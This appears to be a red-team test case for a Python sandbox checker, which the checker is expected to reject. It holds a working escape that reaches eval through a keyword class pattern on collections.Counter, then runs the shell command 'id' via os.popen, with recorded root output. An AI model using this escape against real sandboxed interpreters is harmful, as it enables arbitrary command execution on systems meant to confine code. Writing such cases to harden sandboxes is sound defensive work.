# expect: reject unbound
# line: 18
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team, family U': a keyword class pattern case type(copy=dup) reads Counter.copy from the subject

# Mechanism: family U' (class pattern spelling): 'case type(copy=dup)' against collections.Counter reads the plain function Counter.copy; the keyword pattern is judged for private/refused names only, not by the unbound rule; dup(P) = type
# Goal reached: eval by value: runs id
# Output seen under python3 (3.11), run in a fresh temp dir:
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

match collections.Counter:
    case type(copy=dup):            # a keyword class pattern reads Counter.copy: the plain function
        T = dup(P)                  # Counter.copy(P) -> P.__class__(P) -> type
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
print(ev("__import__('os').popen('id').read()"))
